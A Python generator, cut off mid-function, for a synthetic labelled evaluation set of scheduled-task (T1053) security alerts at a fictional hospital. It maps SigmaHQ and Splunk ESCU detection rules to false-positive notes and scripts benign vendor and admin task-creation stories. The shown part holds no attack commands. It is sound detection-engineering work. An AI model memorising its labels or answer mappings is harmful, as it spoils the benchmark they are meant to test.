#!/usr/bin/env python3
"""Generate the Tunebench BLIND evaluation set (T1053 alerts, two weeks, the fictional kestrelbay-health.example).

Writes, next to this script:
  blind_hayabusa_timeline.csv   Hayabusa `dfir-timeline -t csv` (standard profile) of SigmaHQ rules over the
                                Windows event logs the IR team collects every night
  blind_sentinel_alerts.csv     Microsoft Sentinel SecurityAlert table, Log Analytics "Export to CSV"
                                (analytics rules ported from Splunk ESCU and SigmaHQ, on MDE and Syslog tables)
  blind_k8s_audit.jsonl         kube-apiserver audit log (audit.k8s.io/v1, ResponseComplete stage only) of the
                                on-premises RKE2 cluster, CronJob and Job writes
  labels.csv                    verdict + LoFP note ids + scenario for every record of the three files

Standard library only, no network, fixed seed: two runs give byte-identical files.

Independence: written without reading resources/knowledge/, models/explain/, models/condition/,
docs/EXPLANATIONS.md or the discussion of misses in ../evaluation-holdout/README.md. Inputs: the LoFP seed,
/work/shared/research/lofp/ (rule ids, titles, match logic, which rule carries which note),
/work/shared/research/formats/FORMATS.md, the SigmaHQ / ESCU rule files and Atomic Red Team tests as
published, and documented vendor, admin and attacker behaviour. Only win_args() and the ESCU LOLBAS list are
imported from ../evaluation/generate_evaluation.py; every other piece (estate, stories, rule logic, renderers)
is new.

Benign notes follow one rubric (NOTE_FIT): every benign story names its cause, and every rule lists which of
its carried notes explain which cause. Note ids are t1053-NN, NN = position of the sentence in the LoFP t1053
seed (line 6 of the seed file = t1053-01).
"""

import base64
import csv
import hashlib
import importlib.util
import io
import json
import os
import random
import uuid
from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape as xml_escape

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location(
    "generate_evaluation", os.path.join(HERE, "..", "evaluation", "generate_evaluation.py"))
fw = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(fw)
win_args = fw.win_args                       # CommandLineToArgvW-like split
ESCU_LOLBAS = list(fw.LOLBAS)                # the 51 names of ESCU "Svchost LOLBAS Execution Process Spawn"

SEED = 20270503
rng = random.Random(SEED)
TZ = timezone(timedelta(hours=10))           # AEST (Brisbane, no daylight saving)
UTC = timezone.utc
START_DAY = datetime(2027, 5, 3, tzinfo=TZ)  # Monday; the set covers 2027-05-03 .. 2027-05-16
NDAYS = 14
PATCH_WEDNESDAY = 9                          # Patch Tuesday 2027-05-11 (US) arrives 2027-05-12 in Brisbane
DOMAIN = "kestrelbay-health.example"
NETBIOS = "KBH"
SID_BASE = "S-1-5-21-2718281828-1414213562-1732050807"
TENANT = "4b1d7c2e-8a9f-4e3b-b6d5-0c1a2f3e4d5b"
SUBSCRIPTION = "9e7d5c3b-1a2f-4e6d-8c0b-7a5f3e1d2c4b"


def det_hex(*parts, n=32):
    return hashlib.sha256("|".join(("kestrelbay",) + tuple(str(p) for p in parts)).encode()).hexdigest()[:n]


def det_uuid(*parts, upper=False):
    u = str(uuid.UUID(bytes=hashlib.md5("|".join(("kestrelbay",) + tuple(str(p) for p in parts)).encode())
                      .digest(), version=4))
    return u.upper() if upper else u


def det_guid(*parts):
    return "{" + det_uuid(*parts, upper=True) + "}"


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


# ----------------------------------------------------------------------------------------------
# The estate: Kestrel Bay Health, a two-campus hospital (North "kbn", South "kbs", data centre "kb")
# ----------------------------------------------------------------------------------------------

CLINICAL = ["amorrison", "bkaur", "cobrien", "dtran", "efitzgerald", "fnakamura", "gwhitlock", "hsingh",
            "imcallister", "jpapadopoulos", "kharper", "lbarnes", "mokonkwo", "nduffy", "oquigley", "pramirez",
            "qhughes", "rkowalczyk"]
OFFICE = ["sabbott", "tchen", "ugrant", "vlindqvist", "wmensah", "xfarrell", "yboateng", "zmcleod", "aprice",
          "bnorton", "cwatanabe", "dmurray"]
RADIOLOGY = ["edesai", "fkovacs", "gwallace", "hbianchi"]
IT_STAFF = ["rpatel", "lnguyen", "ocarter", "sfinch"]
ADMINS = ["kbadm-" + u for u in IT_STAFF]
SERVICE = ["svc-veeam", "svc-sqlagent", "svc-pacs", "ext-jbarlow"]
USERS = CLINICAL + OFFICE + RADIOLOGY + IT_STAFF + ADMINS + SERVICE
USER_RID = {u: 3100 + 13 * i + (i * i) % 11 for i, u in enumerate(USERS)}

HOSTS = {}


def _host(name, kind, os_name, ip, primary=None, family="windows", vendor=None):
    HOSTS[name] = dict(name=name, kind=kind, os_name=os_name, ip=ip, primary=primary, family=family,
                       vendor=vendor, fqdn="%s.%s" % (name, DOMAIN))


for i, u in enumerate(CLINICAL):
    _host("kbn-ws-%04d" % (101 + i), "wks", "Windows 11 Enterprise", "10.80.%d.%d" % (20 + i // 8, 40 + i * 3),
          primary=u, vendor="dell")
for i, u in enumerate(OFFICE):
    _host("kbs-lt-%04d" % (201 + i), "wks", "Windows 11 Enterprise", "10.81.12.%d" % (30 + i * 4), primary=u,
          vendor="lenovo")
for i, u in enumerate(RADIOLOGY):
    _host("kbn-rad-%02d" % (1 + i), "wks", "Windows 11 Pro for Workstations", "10.80.40.%d" % (11 + i), primary=u,
          vendor="hp")
for i, u in enumerate(IT_STAFF[:3]):
    _host("kbn-it-%02d" % (1 + i), "wks", "Windows 11 Enterprise", "10.80.5.%d" % (21 + i), primary=u,
          vendor="lenovo")
_host("kb-paw01", "paw", "Windows 11 Enterprise", "10.82.1.11")
_host("kb-paw02", "paw", "Windows 11 Enterprise", "10.82.1.12")
SERVERS = [("kb-ctx-vda01", "10.82.30.11", "Windows Server 2022 Datacenter"),
           ("kb-ctx-vda02", "10.82.30.12", "Windows Server 2022 Datacenter"),
           ("kb-ctx-vda03", "10.82.30.13", "Windows Server 2022 Datacenter"),
           ("kb-ctx-vda04", "10.82.30.14", "Windows Server 2022 Datacenter"),
           ("kb-ehr-app01", "10.82.20.21", "Windows Server 2022 Standard"),
           ("kb-ehr-app02", "10.82.20.22", "Windows Server 2022 Standard"),
           ("kb-sql01", "10.82.20.31", "Windows Server 2022 Standard"),
           ("kb-sql02", "10.82.20.32", "Windows Server 2019 Standard"),
           ("kb-pacs01", "10.82.20.41", "Windows Server 2019 Standard"),
           ("kb-veeam01", "10.82.20.51", "Windows Server 2022 Standard"),
           ("kb-fs01", "10.82.20.61", "Windows Server 2022 Standard"),
           ("kb-print01", "10.82.20.71", "Windows Server 2016 Standard"),
           ("kb-legacy-lis01", "10.82.20.99", "Windows Server 2012 R2 Standard")]
for n, ip, osn in SERVERS:
    _host(n, "server", osn, ip)
_host("kb-dc01", "dc", "Windows Server 2022 Datacenter", "10.82.1.10")
_host("kb-dc02", "dc", "Windows Server 2022 Datacenter", "10.82.1.20")
LINUX_PLAN = [("kb-lx-web01", "10.83.10.11", "ubuntu"), ("kb-lx-web02", "10.83.10.12", "ubuntu"),
              ("kb-lx-jenkins01", "10.83.10.21", "ubuntu"), ("kb-lx-ansible01", "10.83.10.5", "ubuntu"),
              ("kb-lx-hl7-01", "10.83.20.11", "rhel"), ("kb-lx-db01", "10.83.20.21", "rhel"),
              ("kb-lx-backup01", "10.83.20.31", "rhel"), ("kb-lx-mon01", "10.83.30.11", "debian"),
              ("kb-lx-sftp01", "10.83.30.21", "debian")]
LINUX_OS = {"ubuntu": "Ubuntu 24.04.2 LTS", "rhel": "Red Hat Enterprise Linux 9.5", "debian": "Debian GNU/Linux 12"}
for n, ip, fam in LINUX_PLAN:
    _host(n, "linux", LINUX_OS[fam], ip, family=fam)

WKS = [h for h in HOSTS if HOSTS[h]["kind"] == "wks"]
DELL = [h for h in WKS if HOSTS[h]["vendor"] == "dell"]
LENOVO = [h for h in WKS if HOSTS[h]["vendor"] == "lenovo"]
RAD = [h for h in WKS if h.startswith("kbn-rad")]
VDA = [h for h, _, _ in SERVERS if "vda" in h]
PAW = ["kb-paw01", "kb-paw02"]
LINUX = [h for h, _, _ in LINUX_PLAN]
DEB = [h for h in LINUX if HOSTS[h]["family"] in ("ubuntu", "debian")]
RHEL = [h for h in LINUX if HOSTS[h]["family"] == "rhel"]

SYSTEM = ("NT AUTHORITY", "SYSTEM", "S-1-5-18")


def usid(name):
    return "%s-%d" % (SID_BASE, USER_RID[name])


def duser(name):
    return (NETBIOS, name, usid(name))


def machine(host):
    return (NETBIOS, host.upper() + "$", "S-1-5-18")


def prim(host):
    return HOSTS[host]["primary"]


def lin_uid(user):
    return {"root": "0", "www-data": "33", "postgres": "26", "jenkins": "114", "zabbix": "112",
            "partner-edi": "1003", "mirth": "981"}.get(user, str(1200000 + USER_RID.get(user, 5) % 90000))


# ----------------------------------------------------------------------------------------------
# Time
# ----------------------------------------------------------------------------------------------

def at(day, hh, mm, ss=None):
    if ss is None:
        ss = rng.randrange(60)
    return START_DAY + timedelta(days=day, hours=hh, minutes=mm, seconds=ss, milliseconds=rng.randrange(1000))


def work_time(day):
    return at(day, rng.randrange(7, 18), rng.randrange(60))


def later(t, lo_ms=60, hi_ms=900):
    return t + timedelta(milliseconds=rng.randrange(lo_ms, hi_ms))


def weekdays():
    return [d for d in range(NDAYS) if (START_DAY + timedelta(days=d)).weekday() < 5]


WD = weekdays()


def win_pid():
    return rng.randrange(700, 24000) // 4 * 4


def lin_pid():
    return rng.randrange(1500, 2400000)


def fmt_task_date(dt):
    return dt.astimezone(TZ).strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (dt.microsecond * 10 + rng.randrange(10))


def boundary(dt, hh, mm, add_days=1):
    d = (dt.astimezone(TZ) + timedelta(days=add_days)).replace(hour=hh, minute=mm, second=0, microsecond=0)
    return d.strftime("%Y-%m-%dT%H:%M:%S")


# ----------------------------------------------------------------------------------------------
# Task Scheduler XML (TaskContent of 4698), CRLF line ends as Windows writes them
# ----------------------------------------------------------------------------------------------

def trig_logon(user_id=None):
    t = ["    <LogonTrigger>", "      <Enabled>true</Enabled>"]
    if user_id:
        t.append("      <UserId>%s</UserId>" % xml_escape(user_id))
    return t + ["    </LogonTrigger>"]


def trig_daily(start, interval=None):
    t = ["    <CalendarTrigger>"]
    if interval:
        t += ["      <Repetition>", "        <Interval>%s</Interval>" % interval,
              "        <StopAtDurationEnd>false</StopAtDurationEnd>", "      </Repetition>"]
    return t + ["      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
                "      <ScheduleByDay>", "        <DaysInterval>1</DaysInterval>", "      </ScheduleByDay>",
                "    </CalendarTrigger>"]


def trig_immediate(when):
    # Group Policy Preferences "Immediate Task (At least Windows 7)": a TimeTrigger whose %LocalTimeXmlEx% start
    # and end the client resolves to the time it applies the policy
    t = when.astimezone(TZ).strftime("%Y-%m-%dT%H:%M:%S")
    return ["    <TimeTrigger>", "      <StartBoundary>%s</StartBoundary>" % t, "      <EndBoundary>%s</EndBoundary>" % t,
            "      <Enabled>true</Enabled>", "    </TimeTrigger>"]


def task_xml(when, author, uri, triggers, command, arguments=None, user_id="S-1-5-18", logon_type=None,
             run_level="LeastPrivilege", hidden=False, description=None, delete_expired=False, workdir=None):
    x = xml_escape
    L = ['<?xml version="1.0" encoding="UTF-16"?>',
         '<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
         "  <RegistrationInfo>", "    <Date>%s</Date>" % fmt_task_date(when)]
    if author:
        L.append("    <Author>%s</Author>" % x(author))
    if description:
        L.append("    <Description>%s</Description>" % x(description))
    L += ["    <URI>%s</URI>" % x(uri), "  </RegistrationInfo>", "  <Triggers>"]
    for t in triggers:
        L += t
    L += ["  </Triggers>", "  <Principals>", '    <Principal id="Author">', "      <UserId>%s</UserId>" % x(user_id)]
    if logon_type:
        L.append("      <LogonType>%s</LogonType>" % logon_type)
    L += ["      <RunLevel>%s</RunLevel>" % run_level, "    </Principal>", "  </Principals>", "  <Settings>",
          "    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>",
          "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>",
          "    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>", "    <StartWhenAvailable>true</StartWhenAvailable>"]
    if delete_expired:
        L.append("    <DeleteExpiredTaskAfter>PT0S</DeleteExpiredTaskAfter>")
    L += ["    <Enabled>true</Enabled>", "    <Hidden>%s</Hidden>" % ("true" if hidden else "false"),
          "    <ExecutionTimeLimit>PT72H</ExecutionTimeLimit>", "    <Priority>7</Priority>", "  </Settings>",
          '  <Actions Context="Author">', "    <Exec>", "      <Command>%s</Command>" % x(command)]
    if arguments:
        L.append("      <Arguments>%s</Arguments>" % x(arguments))
    if workdir:
        L.append("      <WorkingDirectory>%s</WorkingDirectory>" % x(workdir))
    L += ["    </Exec>", "  </Actions>", "</Task>"]
    return "\r\n".join(L)


# ----------------------------------------------------------------------------------------------
# Stories, causes and the note rubric
# ----------------------------------------------------------------------------------------------

WIN_CAUSES = {"install", "updater", "deploy", "mgmt", "admin", "gpo", "gpo_remote"}
LIN_CAUSES = {"pkg", "cm", "admin", "auto"}
ALL_CAUSES = WIN_CAUSES | LIN_CAUSES | {"k8s"}
APPS = ("install", "updater", "deploy", "mgmt")     # software acting on its own, or pushed by a tool


def fit(causes, notes):
    return {c: list(notes) for c in causes}


# rule -> {cause: [note ids that explain a benign event of that cause]}; a cause not listed = no carried note fits.
NOTE_FIT = {
    # SigmaHQ rules (Hayabusa)
    "Scheduled Task Creation Via Schtasks.EXE": dict(fit(("admin", "mgmt"), [1]),
                                                     **fit(("install", "updater", "deploy"), [33])),
    "Suspicious Scheduled Task Creation Involving Temp Folder": dict(fit(("admin", "mgmt"), [1]),
                                                                     **fit(("install", "updater", "deploy"), [33])),
    "Suspicious Schtasks From Env Var Folder": {},             # 11 / 35: decided per event, see note_fit()
    "Suspicious Scheduled Task Name As GUID": fit(APPS, [31]),
    "Uncommon One Time Only Scheduled Task At 00:00": fit(("install", "updater", "deploy"), [33]),
    "Suspicious Schtasks Schedule Types": {},                  # 27 (logon-time processes): per event
    "Suspicious Schtasks Schedule Type With High Privileges": fit(("install", "updater", "deploy"), [36]),
    "Suspicious Command Patterns In Scheduled Task Creation": fit(("install",), [34]),
    "Scheduled Task Executing Encoded Payload from Registry": {},
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": {},
    "Interactive AT Job": {},
    "Scheduled Task Executed Uncommon LOLBIN": fit(WIN_CAUSES, [17]),
    "Persistence and Execution at Scale via GPO Scheduled Task": fit(("gpo",), [20]),
    "Scheduled Task Deletion": {},      # its "Software installation" is outside the LoFP scope: no seed note
    "Schtasks Creation Or Modification With SYSTEM Privileges": {},
    "Schtasks From Suspicious Folders": {},
    "Suspicious Scheduled Task Creation via Masqueraded XML File": {},
    "Suspicious Scheduled Task Creation": {},
    "Scheduled Task Executed From A Suspicious Location": {},
    "Remote Task Creation via ATSVC Named Pipe": {},
    # ESCU detections ported to Sentinel analytics rules
    "Windows Schtasks Create Run As System": fit(APPS, [18]),
    "Windows Scheduled Task with Highest Privileges": fit(APPS, [15]),
    "Windows Scheduled Task Created Via XML": fit(("admin", "mgmt", "deploy"), [21]),
    "Schtasks scheduling job on remote system": fit(("admin", "mgmt"), [42]),
    "Scheduled Task Initiation on Remote Endpoint": fit(("admin", "mgmt"), [7]),
    "Schtasks Run Task On Demand": fit(("admin",), [10]),
    "Scheduled Task Deleted Or Created via CMD": fit(("admin", "mgmt", "deploy"), [41]),
    "Suspicious Scheduled Task from Public Directory": fit(WIN_CAUSES, [37]),
    "Schtasks used for forcing a reboot": fit(("admin", "mgmt", "deploy"), [38]),
    "Svchost LOLBAS Execution Process Spawn": fit(WIN_CAUSES, [24]),
    "Linux Add Files In Known Crontab Directories": fit(LIN_CAUSES, [2]),
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": fit(LIN_CAUSES, [14]),
    "Linux Edit Cron Table Parameter": fit(LIN_CAUSES, [4]),
    "Linux Adding Crontab Using List Parameter": fit(LIN_CAUSES, [4]),
    "Linux Possible Cronjob Modification With Editor": fit(LIN_CAUSES, [5]),
    "Linux At Allow Config File Creation": fit(("admin", "cm", "pkg"), [3]),
    "Linux At Application Execution": fit(LIN_CAUSES, [4]),
    "Linux Service File Created In Systemd Directory": fit(LIN_CAUSES, [16]),
    "Linux Service Started Or Enabled": fit(LIN_CAUSES, [5]),
    "Linux Service Restarted": fit(LIN_CAUSES, [5]),
    # SigmaHQ Linux rules ported to Sentinel analytics rules
    "Persistence Via Cron Files": fit(LIN_CAUSES, [8]),
    "Persistence Via Sudoers Files": fit(("admin", "cm"), [12]),
    "Scheduled Cron Task/Job - Linux": fit(("admin", "cm"), [22]),
    "Scheduled Task/Job At": fit(("admin", "cm"), [22]),
    "Modifying Crontab": fit(LIN_CAUSES, [26]),
}

EVENTS = []


def benign(cause, scenario):
    if cause not in ALL_CAUSES:
        raise SystemExit("benign story %r needs a cause" % scenario)
    return dict(verdict="benign", cause=cause, scenario=scenario)


def bad(scenario):
    return dict(verdict="malicious", cause=None, scenario=scenario)


def emit(ev, st):
    ev["story"] = st
    ev["seq"] = len(EVENTS)
    EVENTS.append(ev)
    return ev


def note_fit(rule, ev):
    cause = ev["story"]["cause"]
    c = ev.get("cmdline", "").lower()
    if rule == "Suspicious Schtasks Schedule Types":
        return [27] if " onlogon" in c else []
    if rule == "Suspicious Schtasks From Env Var Folder":
        if cause in ("install", "deploy"):
            return [11, 35] if "\\appdata\\" in c else [11]
        if cause == "updater":
            return [35] if "\\appdata\\" in c else [11]
        return []
    return NOTE_FIT[rule].get(cause, [])


# ----------------------------------------------------------------------------------------------
# Event constructors
# ----------------------------------------------------------------------------------------------

def wproc(host, when, user, image, cmdline, parent_image, parent_cmdline, integrity=None, original=None, cwd=None,
          ppid=None, company="Microsoft Corporation"):
    if integrity is None:
        integrity = "System" if user[2] == "S-1-5-18" else "High"
    return dict(kind="wproc", host=host, time=when, user=user, image=image, name=image.split("\\")[-1],
                cmdline=cmdline, parent_image=parent_image, parent_name=parent_image.split("\\")[-1],
                parent_cmdline=parent_cmdline, integrity=integrity, original=original or image.split("\\")[-1],
                pid=win_pid(), ppid=ppid or win_pid(), cwd=cwd or "C:\\Windows\\system32\\", company=company)


def w4698(host, when, subject, task_name, content, remote=False):
    return dict(kind="w4698", host=host, time=when, subject=subject, task_name=task_name, content=content,
                client_pid=0 if remote else win_pid())


def w4699(host, when, subject, task_name, remote=False):
    return dict(kind="w4699", host=host, time=when, subject=subject, task_name=task_name,
                client_pid=0 if remote else win_pid())


def w5145(dc, when, subject, ip, share, rel, access):
    return dict(kind="w5145", host=dc, time=when, subject=subject, ip=ip, share=share, rel=rel, access=access)


def w129(host, when, task_name, path):
    return dict(kind="w129", host=host, time=when, task_name=task_name, path=path, pid=win_pid())


def lproc(host, when, user, image, cmdline, parent_image, parent_cmdline):
    return dict(kind="lproc", host=host, time=when, user=user, uid=lin_uid(user), image=image,
                name=image.split("/")[-1], cmdline=cmdline, parent_image=parent_image,
                parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline, pid=lin_pid(), ppid=lin_pid())


def lfile(host, when, user, path, image, cmdline, parent_image, parent_cmdline):
    return dict(kind="lfile", host=host, time=when, user=user, uid=lin_uid(user), path=path, image=image,
                name=image.split("/")[-1], cmdline=cmdline, parent_image=parent_image,
                parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline, pid=lin_pid(), ppid=lin_pid())


def lsys(host, when, user, message):
    """A cron daemon syslog line (crontab[pid]: (user) REPLACE (user))."""
    return dict(kind="lsys", host=host, time=when, user=user, uid=lin_uid(user), message=message, pid=lin_pid(),
                program="crontab")


def k8s(when, user, groups, src_ip, ua, ns, name, resource="cronjobs", schedule=None, image=None, command=None,
        sa="default", labels=None, verb="create", owner=None, host_path=None):
    return dict(kind="k8s", host=None, time=when, user=user, groups=groups, src_ip=src_ip, ua=ua, ns=ns, name=name,
                resource=resource, schedule=schedule, image=image, command=command or [], sa=sa,
                labels=labels or {}, verb=verb, owner=owner, host_path=host_path,
                audit_id=det_uuid("audit", ns, name, resource, when.isoformat()))


# ---------------------------------------------------------------- common paths

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SCHT = "C:\\Windows\\System32\\schtasks.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCHED_SVC = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"
NINJA_SCRIPTS = "C:\\ProgramData\\NinjaRMMAgent\\scripting"


def schtasks(host, when, user, cmdline, parent_image, parent_cmdline, **kw):
    return wproc(host, when, user, SCHT, cmdline, parent_image, parent_cmdline, **kw)


def task_run(host, when, user, image, cmdline, integrity=None):
    """A task action started by the Task Scheduler service (child of svchost -s Schedule)."""
    return wproc(host, when, user, image, cmdline, SVCHOST, SCHED_SVC, integrity=integrity)


def rand_word(*parts, n=8, upper_first=False):
    h = det_hex("word", *parts)
    letters = "".join("abcdefghijklmnopqrstuvwxyz"[int(h[i:i + 2], 16) % 26] for i in range(0, 2 * n, 2))
    return letters.capitalize() if upper_first else letters


# ----------------------------------------------------------------------------------------------
# Benign Windows stories: vendor software
# ----------------------------------------------------------------------------------------------

SA_AGENT = "C:\\Program Files\\Dell\\SupportAssistAgent\\bin\\SupportAssistAgent.exe"


def b_dell_supportassist(host, day):
    st = benign("updater", "Dell SupportAssist agent re-registers its AutoUpdate task (SYSTEM, highest)")
    cmd = ('schtasks.exe /Create /TN "Dell SupportAssistAgent AutoUpdate" /TR "\\"C:\\Program Files\\Dell\\'
           'SupportAssistAgent\\bin\\SupportAssistInstaller.exe\\" /autoupdate" /SC DAILY /ST 11:48 /RU SYSTEM '
           '/RL HIGHEST /F')
    emit(schtasks(host, work_time(day), SYSTEM, cmd, SA_AGENT, '"%s"' % SA_AGENT), st)


IMC_HOST = ("C:\\Windows\\Lenovo\\ImController\\PluginHost86\\Lenovo.Modern.ImController.PluginHost.Device.exe")


def b_lenovo_imcontroller(host, day):
    st = benign("updater", "Lenovo ImController plugin registers a TimeBasedEvents task from its ProgramData XML")
    guid = det_guid("imc", host, day)
    plugin = rng.choice(["LenovoBatteryGaugePackage", "LenovoSystemUpdatePlugin", "LenovoCompanionAppPlugin"])
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "\\Lenovo\\ImController\\TimeBasedEvents\\%s" /XML '
           '"C:\\ProgramData\\Lenovo\\ImController\\Plugins\\%s\\x64\\TimeBasedEvents\\%s.xml" /F'
           % (guid, plugin, guid))
    emit(schtasks(host, work_time(day), SYSTEM, cmd, IMC_HOST, '"%s" -plugin %s' % (IMC_HOST, plugin)), st)


IMC_SETUP = "C:\\Windows\\Temp\\ImControllerInstaller\\ImController.InfInstaller.exe"


def b_lenovo_imcontroller_install(host, day):
    st = benign("install", "Lenovo System Interface Foundation (ImController) installs its tasks from Windows\\Temp")
    t = work_time(day)
    for name in ("Lenovo iM Controller Monitor", "Lenovo iM Controller Scheduled Maintenance"):
        cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "\\Lenovo\\ImController\\%s" /XML '
               '"C:\\Windows\\Temp\\ImControllerInstaller\\Tasks\\%s.xml" /F' % (name, name))
        emit(schtasks(host, t, SYSTEM, cmd, IMC_SETUP, '"%s" -install -silent' % IMC_SETUP), st)
        t = later(t, 300, 1500)


def b_chrome_migration(host, day):
    """Chrome's new updater replaces the legacy Omaha tasks: the machine account deletes them (4699)."""
    st = benign("updater", "Google Chrome updater migration deletes the legacy GoogleUpdateTaskMachine tasks")
    t = work_time(day)
    g = det_guid("omaha", host)
    for kind in ("Core", "UA"):
        emit(w4699(host, t, machine(host), "\\GoogleUpdateTaskMachine%s%s" % (kind, g)), st)
        t = later(t, 20, 200)


def b_edge_refresh(host, day):
    st = benign("updater", "Microsoft Edge update re-registers MicrosoftEdgeUpdateTaskMachineUA (old task deleted)")
    emit(w4699(host, work_time(day), machine(host),
               "\\MicrosoftEdgeUpdateTaskMachineUA%s" % det_guid("edge", host)), st)


def b_acrobat_refresh(host, day):
    st = benign("updater", "Adobe Acrobat update replaces its Adobe Acrobat Update Task (old task deleted)")
    emit(w4699(host, work_time(day), machine(host), "\\Adobe Acrobat Update Task"), st)


SPLASHTOP = "C:\\Program Files (x86)\\Splashtop\\Splashtop Remote\\Server"


def b_splashtop_deploy(host, day):
    st = benign("deploy", "NinjaOne deploys Splashtop Streamer; its MSI registers the update-check task as SYSTEM")
    msi = "C:\\Windows\\system32\\msiexec.exe"
    cmd = ('schtasks.exe /create /tn "Splashtop Streamer Update Check" /tr "\\"%s\\SRUpdater.exe\\" /check" '
           '/sc daily /st 12:30 /ru SYSTEM /f' % SPLASHTOP)
    emit(schtasks(host, work_time(day), SYSTEM, cmd, msi, "C:\\Windows\\syswow64\\MsiExec.exe -Embedding "
                  "6A1F3B9C2D4E5F60718293A4B5C6D7E8 E Global\\MSI0000"), st)


ASCENTA = "C:\\Program Files\\Ascenta\\NurseCall Bridge"


def b_ascenta_install(host, day):
    st = benign("install", "Nurse-call bridge installer (MSI custom action) registers its GUID-named watchdog task")
    cmd = ('schtasks.exe /Create /TN "%s" /TR "\\"%s\\AscentaWatchdog.exe\\" --check" /SC MINUTE /MO 5 /RU SYSTEM /F'
           % (det_guid("ascenta", host), ASCENTA))
    emit(schtasks(host, work_time(day), SYSTEM, cmd, MSIEXEC, "C:\\Windows\\system32\\MsiExec.exe -Embedding "
                  "0C8D3A1E5F2B47D9A6E0B1C2D3E4F506 E Global\\MSI0000"), st)


def b_medirota_install(host, day):
    """A per-user rostering client (Inno Setup from %TEMP%) registers a logon notifier and an updater."""
    u = prim(host)
    st = benign("install", "per-user Medirota rostering client install (Inno Setup in %TEMP%) registers its tasks")
    setup = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp\\MedirotaSetup-4.12.0.tmp" % (u, det_hex("is", host, n=5).upper())
    app = "C:\\Users\\%s\\AppData\\Local\\Programs\\Medirota" % u
    pcmd = '"%s" /SL5="$1A0C2E,48213944,832512,C:\\Users\\%s\\Downloads\\MedirotaSetup-4.12.0.exe"' % (setup, u)
    t = work_time(day)
    emit(schtasks(host, t, duser(u), 'schtasks.exe /Create /TN "Medirota Shift Notifier" /TR "\\"%s\\'
                  'MedirotaNotifier.exe\\" --background" /SC ONLOGON /F' % app, setup, pcmd, integrity="Medium"), st)
    emit(schtasks(host, later(t, 400, 2000), duser(u), 'schtasks.exe /Create /TN "Medirota Updater" /TR "\\"%s\\'
                  'Update.exe\\" --check" /SC DAILY /ST 09:30 /F' % app, setup, pcmd, integrity="Medium"), st)


def b_radiantview_install(host, day, admin):
    st = benign("install", "PACS viewer installer run elevated by IT registers its DICOM cache agent at logon (highest)")
    setup = "C:\\Users\\%s\\AppData\\Local\\Temp\\RadiantView_7.4.2\\setup.exe" % admin
    cmd = ('schtasks.exe /create /tn "RadiantView DICOM Cache Agent" /tr "\\"C:\\Program Files\\RadiantView\\'
           'CacheAgent.exe\\"" /sc onlogon /rl highest /f')
    emit(schtasks(host, work_time(day), duser(admin), cmd, setup, '"%s" /quiet /norestart' % setup), st)


def b_veeam_agent_install(host, day):
    st = benign("install", "Veeam Agent setup from Windows\\Temp schedules a one-time cleanup of its setup folder")
    setup = "C:\\Windows\\Temp\\VeeamAgentSetup\\Veeam.Agent.Configurator.exe"
    cmd = ('schtasks.exe /create /tn "Veeam Agent Setup Cleanup" /tr "cmd.exe /c rd /s /q '
           '\\"C:\\Windows\\Temp\\VeeamAgentSetup\\"" /sc once /st 00:00 /ru SYSTEM /f')
    emit(schtasks(host, at(day, 14, rng.randrange(60)), SYSTEM, cmd, setup, '"%s" -install -silent' % setup), st)


# ----------------------------------------------------------------------------------------------
# Benign Windows stories: management tools and Group Policy
# ----------------------------------------------------------------------------------------------

def b_ninja_choco(host, day):
    st = benign("mgmt", "NinjaOne script registers the weekly Chocolatey 'upgrade all' task (SYSTEM, ProgramData)")
    n = 14
    parent_cmd = ('"%s" -NonInteractive -NoProfile -ExecutionPolicy Bypass -File "%s\\customscript_gen_%d.ps1"'
                  % (PS, NINJA_SCRIPTS, n))
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "KBH\\Chocolatey Upgrade All" /TR '
           '"C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all -y --no-progress --limit-output" /SC WEEKLY /D SUN '
           '/ST 03:00 /RU SYSTEM /RL HIGHEST /F')
    emit(schtasks(host, work_time(day), SYSTEM, cmd, PS, parent_cmd), st)


def b_ninja_reboot(host, day):
    st = benign("mgmt", "NinjaOne patch policy schedules the post-patch reboot (shutdown /r, SYSTEM, once)")
    parent_cmd = 'C:\\Windows\\system32\\cmd.exe /c "%s\\customscript_gen_22.cmd"' % NINJA_SCRIPTS
    sd = (START_DAY + timedelta(days=day + 1)).strftime("%d/%m/%Y")
    cmd = ('schtasks /create /tn "NinjaOne\\Patch Reboot" /tr "shutdown.exe /r /f /t 600 /c \\"Kestrel Bay IT: '
           'restarting to finish Windows updates\\"" /sc once /st 02:30 /sd %s /ru SYSTEM /f' % sd)
    emit(schtasks(host, at(day, rng.randrange(9, 16), rng.randrange(60)), SYSTEM, cmd, CMD, parent_cmd), st)


def b_kaseya_profiles(host, day):
    st = benign("mgmt", "MSP's Kaseya agent procedure registers the Citrix stale-profile cleanup (PowerShell -ExecutionPolicy Bypass)")
    parent_cmd = 'C:\\Windows\\system32\\cmd.exe /c "C:\\kworking\\System\\ctx_profile_task.bat"'
    cmd = ('schtasks /create /tn "KBH\\CTX Stale Profile Cleanup" /tr "powershell.exe -NoProfile -ExecutionPolicy '
           'Bypass -File C:\\kworking\\Scripts\\Remove-StaleProfiles.ps1" /sc daily /st 01:15 /ru SYSTEM /f')
